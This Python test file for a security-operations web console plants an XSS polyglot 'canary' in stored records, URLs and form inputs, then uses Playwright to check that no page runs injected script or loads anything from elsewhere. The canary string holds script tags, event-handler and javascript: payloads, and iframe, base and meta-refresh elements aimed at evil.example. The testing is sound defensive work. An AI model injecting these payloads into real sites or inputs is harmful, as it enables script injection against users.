"""A script canary on every page of the console: whatever is hostile in a store, no script of it runs and nothing is asked elsewhere.

The pages are those of `pages.txt`, and those that answer the forms of `forms.txt`, which a Swift test keeps equal to the table of
routes; from each of the pages the links are followed that lead on within the console.
"""

import collections
import contextlib
import functools
import json
import re
import sqlite3
import subprocess
import urllib.parse

import pytest
from playwright.sync_api import Error

from asking import Connection
from browser import chromium
from consoles import Reader, serving, sign_in, the_programs_environment
from forms import WITHOUT_A_PAGE, filled, listed, names_in
from running import running_sandbox
from stores import SQLiteStore
from test_live import Desk

PAGES, FORMS = listed("pages.txt"), listed("forms.txt")
# It ends whatever it may stand in, and speaks up in each of the ways in which a page can run something.
CANARY = (
    "\"'--></title></textarea></select></option></script></style></svg></a>"
    "<script>window.canary='script'</script><script src=//evil.example/s></script>"
    "<img src=//evil.example/x onerror=window.canary='image'><svg onload=window.canary='drawing'>"
    "<a href=javascript:window.canary='link'>x</a><iframe src=//evil.example/></iframe><meta http-equiv=refresh content=0;//evil.example/>"
    "<base href=//evil.example/><form action=//evil.example/><input autofocus onfocus=window.canary='field'>"
    "{{words}}{{{token}}}&#60;script&#62;\u202e\u200d"
)
# What a page holds of what others wrote, by table.
HOSTILE = {
    "customer": ["name", "notes", "tier", "tags"], "tenant": ["display_name"],
    "incident": ["title", "status", "classification", "determination", "assigned_to", "tags", "redirected_to"],
    "alert": ["title", "severity", "status", "classification", "determination", "service", "detection", "category", "assigned_to"],
    "alert_technique": ["technique"], "gap": ["subject", "reason"], "finding": ["name", "sentence", "advice"], "saved_view": ["name"],
    "session": ["place"], "token": ["used_from"],
}
ONCE = {("finding", "name"), ("gap", "subject")}
# Every kind of name that a piece of evidence can have; each stands in one alert at least.
ENTITIES = [
    "device-id", "device-name", "user-id", "user-name", "security-id", "sha256", "sha1", "file-name", "command-line", "address", "url",
    "domain", "mailbox", "sender", "recipient", "message", "subject", "application", "registry-key", "cloud-resource", "malware", "name",
]
# So many pages are opened beyond those of the list.
MOST = 90


class Marked:
    """A store in which all that others wrote is a canary, and what there is to name in an address."""

    def __init__(self, path):
        self.path = path

    def connect(self):
        connection = sqlite3.connect(self.path, timeout=30)
        connection.execute("PRAGMA busy_timeout = 30000")
        return connection

    def mark(self):
        connection = self.connect()
        for table, columns in HOSTILE.items():
            known = {row[1] for row in connection.execute(f"PRAGMA table_info({table})")}
            assert set(columns) <= known, f"{table} has no {set(columns) - known} any more: say what it has now."
            for column in columns:
                # What has to be there once goes on behind it.
                rest = f"|| ' ' || {column}" if (table, column) in ONCE else ""
                connection.execute(f"UPDATE {table} SET {column} = ? {rest}", (CANARY,))
            # A canary that is not there cannot speak up.
            assert connection.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0] > 0, f"Nothing is in {table}."
        # A severity that nobody knows is shown as unknown; of one half the known ones stay, so that axes have lanes.
        connection.execute("UPDATE incident SET status = 'active' WHERE id % 2 = 0")
        connection.execute("UPDATE alert SET status = 'new', severity = 'high' WHERE id % 2 = 0")
        self._mark_evidence(connection)
        connection.commit()
        connection.close()

    def _mark_evidence(self, connection):
        """Has every name in every piece of evidence be a canary, and one alert name something of each kind."""
        for alert, pieces in connection.execute("SELECT alert, pieces FROM evidence").fetchall():
            marked = [with_canaries(piece) for piece in pieces_of(pieces)]
            connection.execute("UPDATE evidence SET pieces = ? WHERE alert = ?", (written(marked), alert))
        every = [(kind, "malicious", "active", ["compromised"], [(kind, f"q-{kind}-q {CANARY}")]) for kind in ENTITIES]
        alert, = connection.execute(
            "SELECT id FROM alert WHERE object = ? AND tenant = (SELECT id FROM tenant WHERE tenant_id = ?)",
            (self.names["alert"], self.names["tenant"]),
        ).fetchone()
        connection.execute("UPDATE evidence SET pieces = ? WHERE alert = ?", (written(every), alert))

    @functools.cached_property
    def names(self):
        """What there is to name in an address, as it was before the marks."""
        return names_in(SQLiteStore(self.path))


def pieces_of(column):
    """The pieces of evidence of an alert: for each its kind, verdict and remediation, its roles, and its entities by their kinds."""
    lines, pieces = iter(column.split("\n")), []
    for kind in lines:
        verdict, remediation = next(lines), next(lines)
        roles = [next(lines) for _ in range(int(next(lines)))]
        entities = [(next(lines), next(lines)) for _ in range(int(next(lines)))]
        assert {name for name, _ in entities} <= set(ENTITIES), "Say in ENTITIES what evidence can name."
        pieces.append((kind, verdict, remediation, roles, entities))
    return pieces


def with_canaries(piece):
    """A piece of which all is a canary but the kinds, by which pages are made."""
    kind, _, _, roles, entities = piece
    return (kind, CANARY, CANARY, [CANARY for _ in roles], [(name, CANARY) for name, _ in entities])


def written(pieces):
    """The column that holds pieces; nothing in them has to be escaped but what begins with a backslash, of which there is none."""
    lines = []
    for kind, verdict, remediation, roles, entities in pieces:
        lines += [kind, verdict, remediation, str(len(roles)), *roles, str(len(entities))]
        lines += [text for entity in entities for text in entity]
    assert not any("\\" in line or "\n" in line for line in lines)
    return "\n".join(lines)


@pytest.fixture(scope="module")
def desk(tenantry, tmp_path_factory):
    folder = tmp_path_factory.mktemp("canary-pages")
    with running_sandbox(tenantry, folder / "sandbox", tls=False, tenants=3, alerts=60) as sandbox:
        environment = the_programs_environment(sandbox, folder) | {
            "TENANTRY_RESPONSE_CHANGES": "allowed", "TENANTRY_PROVIDER_NAME": "Northwind SOC",
        }

        def run(*words, statuses=(0,)):
            done = subprocess.run([tenantry, *words], env=environment, capture_output=True, text=True)
            assert done.returncode in statuses, done.stderr

        for tenant in sandbox.tenants[:2]:
            run("customers", "add", tenant["domain"])
        write_to_microsoft(sandbox, CANARY[:100])
        run("sync", "--once")
        # What was otherwise before is told as well; one of the customers is kept from us then, and that is told too.
        write_to_microsoft(sandbox, CANARY[1:101])
        fault(sandbox, {"fault": "roles-withheld", "roles": ["SecurityAlert.Read.All"], "tenants": [sandbox.tenants[1]["tenantID"]]})
        run("sync", "--once", statuses=(0, 7))
        run("check", statuses=(0, 7))
        with serving(tenantry, environment, folder, "--no-sync") as (address, _):
            desk = Desk(sandbox, address, tenantry, environment)
            desk.store = Marked(folder / "data" / "tenantry" / "tenantry.db")
            yield desk


def fault(sandbox, what):
    """Has something go wrong at made-up Microsoft."""
    headers = {"Authorization": f"Bearer {sandbox['controlSecret']}", "Content-Type": "application/json"}
    with contextlib.closing(Connection(sandbox["control"])) as control:
        answer = control.ask("POST", "/sandbox/faults", headers, json.dumps(what))
        assert answer.status < 300, answer.body


def write_to_microsoft(sandbox, text):
    """Writes canaries into an incident at Microsoft, so that its JSON holds them."""
    tenant = sandbox.tenants[0]["tenantID"]
    graph = Connection(sandbox["graph"])
    token = Connection(sandbox["authority"]).token(sandbox.facts, tenant)
    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
    listed = graph.ask("GET", "/v1.0/security/incidents?$top=3&$orderby=lastUpdateDateTime%20desc", headers)
    for incident in listed.json["value"]:
        path = f"/v1.0/security/incidents/{incident['id']}"
        changed = graph.ask("PATCH", path, headers, json.dumps({"customTags": [text], "assignedTo": text}))
        assert changed.status == 200, changed.body
        comment = {"@odata.type": "microsoft.graph.security.alertComment", "comment": CANARY}
        said = graph.ask("POST", path + "/comments", headers, json.dumps(comment))
        assert said.status < 300, said.body
    graph.close()


@pytest.fixture(scope="module")
def visitor(desk, tmp_path_factory):
    """An administrator in front of pages that are full of canaries."""
    with chromium(tmp_path_factory.mktemp("browser")) as browser:
        someone = Reader(browser.new_context(locale="en-GB", viewport={"width": 1440, "height": 1000}), desk.address, None)
        sign_in(someone, desk.link("add", "ada", "--role", "administrator", "--all"))
        someone.open("/queue?severity=high")
        someone.page.get_by_text("Save as a view").click()
        someone.page.locator(".views").get_by_label("Name").fill("High")
        someone.page.locator(".views").get_by_role("button", name="Save").click()
        someone.page.get_by_role("link", name="High", exact=True).wait_for()
        someone.open("/account/tokens")
        someone.send("/account/tokens", {"name": "siem", "right": "read", "days": "30", "customers": ""})
        desk.store.mark()
        someone.page.on("dialog", lambda dialog: (someone.trouble.append(dialog.message), dialog.dismiss()))
        someone.page.add_init_script(
            "addEventListener('securitypolicyviolation', event => { window.canary = 'policy: ' + event.violatedDirective; })"
        )
        yield someone


@pytest.fixture(scope="module")
def names(desk):
    """What stands for each open part of a path, and what forms name."""
    return desk.store.names


def address(page, names):
    parts = []
    for part in page.split("/"):
        if part.startswith(":"):
            assert part[1:] in names, f"Say in names_in() what {part} of {page} stands for."
            part = urllib.parse.quote(names[part[1:]], safe="")
        parts.append(part)
    return "/".join(parts)


def look(visitor, path, seen):
    """Opens a page, and sees that it is none but ours; gives the links on it."""
    try:
        answer = visitor.page.goto(visitor.address + path, wait_until="load")
    except Error as error:
        # A file is kept, and no page to run anything.
        assert "Download is starting" in str(error), path
        seen[path] = None
        return []
    seen[path] = is_ours(visitor, path, answer)
    return visitor.page.eval_on_selector_all("a[href^='/']", "links => links.map(link => link.getAttribute('href'))")


def is_ours(visitor, path, answer):
    """Sees that nothing of a page is another's doing; gives whether a canary is on it to be read."""
    assert answer.status < 500, path
    # What a script of a page would do, it does before the next thing that is asked of it.
    canary = visitor.page.evaluate("new Promise(done => setTimeout(() => done(window.canary ?? null), 30))")
    # A page that says no is an error to a browser, and a text without an icon has it look for one.
    is_fine = answer.status < 400 and "html" in answer.headers["content-type"]
    trouble = [text for text in visitor.trouble if is_fine or "Failed to load resource" not in text]
    visitor.trouble.clear()
    assert canary is None, f"{path}: {canary}"
    assert trouble == [], path
    assert visitor.page.url.startswith(visitor.address + "/"), path
    foreign = visitor.page.evaluate(FOREIGN)
    assert foreign == [], f"{path}: {foreign}"
    return "window.canary=" in visitor.page.evaluate(SHOWN)


# All that can be read on a page, what stands in its fields too.
SHOWN = """[document.body.innerText, ...[...document.querySelectorAll('input, textarea')].map(field => field.value)].join(' ')"""

# What of a page none of its templates makes: scripts and handlers of others, and elements that have no business here.
FOREIGN = """() => [
  ...document.querySelectorAll('iframe, base, meta[http-equiv], object, embed, style, [srcdoc], img:not(.brand img)'),
  ...[...document.scripts].filter(script => !script.src.startsWith(location.origin + '/assets/')),
  ...[...document.querySelectorAll('*')].filter(one => [...one.attributes].some(({ name, value }) =>
    name.startsWith('on') || /^\\s*javascript:/i.test(value) || /^\\/\\/evil/.test(value))),
].map(one => one.outerHTML.slice(0, 200))"""


def kind(path):
    """What is alike about addresses of which one or two are enough."""
    place, _, query = path.partition("?")
    fields = sorted({name for name, _ in urllib.parse.parse_qsl(query)})
    return re.sub(r"/[^/]*\d[^/]*", "/…", place), tuple(fields)


@pytest.mark.timeout(420)
def test_no_page_runs_what_others_wrote(visitor, names):
    seen, waiting, kinds = {}, collections.deque(), collections.Counter()
    for page in PAGES:
        # A stream of events has no end.
        if page == "/events":
            continue
        path = address(page, names)
        if ":incident" in page or ":alert" in page or ":customer" in page:
            path += f"?tenant={names['tenant']}"
        for language in ("en", "zh-Hant"):
            waiting.extend(look(visitor, path + ("&" if "?" in path else "?") + f"lang={language}", seen))
    waiting.extend([
        "/queue?" + urllib.parse.urlencode({"q": CANARY[:190], "status": "all"}), "/queue?status=all&sort=customer",
        "/queue?" + urllib.parse.urlencode({"severity": CANARY}), "/queue?" + urllib.parse.urlencode({CANARY[:90]: "1"}),
        "/queue?" + urllib.parse.urlencode({"assigned": CANARY[:190]}), "/launcher?" + urllib.parse.urlencode({"q": CANARY[:200]}),
        "/launcher?q=incident", "/queue?panel=" + urllib.parse.quote(address("/incidents/:customer/:incident", names), safe=""),
        "/" + urllib.parse.quote(CANARY, safe=""), "/open/" + names["customer"] + "/" + urllib.parse.quote(CANARY[:90], safe=""),
    ])
    assert seen[f"/incidents/{names['customer']}/{names['incident']}?tenant={names['tenant']}&lang=en"]
    while waiting and len(seen) < MOST + 2 * len(PAGES):
        path = waiting.popleft()
        if path in seen or path.startswith(("/assets/", "/demonstration/")) or kinds[kind(path)] >= 2:
            continue
        kinds[kind(path)] += 1
        waiting.extend(look(visitor, path, seen))
    shown = sum(1 for is_shown in seen.values() if is_shown)
    print("pages opened:", len(seen), "and with canaries on them:", shown)
    assert len(seen) > 2 * len(PAGES)
    # A canary that is not there cannot speak up.
    assert shown > len(seen) / 3


def test_every_kind_of_evidence_is_shown_as_what_it_is(visitor, names):
    seen = {}
    for page in ("/alerts/:customer/:alert", "/incidents/:customer/:incident"):
        look(visitor, address(page, names) + f"?tenant={names['tenant']}&lang=en", seen)
        visitor.page.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true; })")
        text = visitor.page.evaluate("document.body.innerText")
        assert [kind for kind in ENTITIES if f"q-{kind}-q" not in text] == [], page
    assert all(seen.values())


@pytest.mark.timeout(180)
def test_no_answer_to_a_form_runs_what_was_typed(visitor, desk, names):
    names = names | {"link": desk.link("add", "jo", "--role", "viewer", "--all").rsplit("/", 1)[1]}
    forms, seen = filled(names, CANARY, desk.sandbox.tenants[2]["domain"]), {}
    assert sorted(forms) == [path for path in FORMS if path not in WITHOUT_A_PAGE], "Say in filled() how each form is filled in."
    visitor.open("/account?lang=en")
    for path, ways in forms.items():
        for number, fields in enumerate(ways):
            answer = visitor.send(address(path, names), fields)
            seen[f"{path} {number}"] = is_ours(visitor, f"{path} {number}", answer)
    # What was typed stands on the pages that have one come back to it.
    for place in (
        "/account/tokens 0", "/customer-import 1", "/customers/:customer 0", "/customers/:customer/connect 0", "/incidents/changes 1",
        "/alerts/changes 1", "/new-customer 0", "/new-customer 1", "/new-customer 2", "/new-customer 3",
    ):
        assert seen[place], place


def test_what_scripts_show_runs_nothing(visitor, desk):
    """The panel, the launcher's list, and what is told of customers and of who looks."""
    page = visitor.page
    visitor.trouble.clear()
    visitor.open("/queue?status=all&lang=en")
    page.get_by_role("grid").wait_for()
    page.keyboard.press("j")
    page.keyboard.press("o")
    page.locator("#panel h1").wait_for()
    page.keyboard.press("Escape")
    page.keyboard.press("Control+k")
    page.locator("#launcher-list li").first.wait_for()
    page.locator("#launcher-text").fill("queue")
    page.locator("#launcher-list li").first.wait_for()
    page.keyboard.press("Escape")
    # A customer who is no longer read is told by name.
    connection = desk.store.connect()
    connection.execute("UPDATE customer SET state = 'suspended' WHERE id = (SELECT MIN(id) FROM customer)")
    connection.commit()
    connection.close()
    page.locator("#arrivals .sight").wait_for()
    assert page.evaluate("window.canary ?? null") is None
    assert page.evaluate(FOREIGN) == []
    assert visitor.trouble == []
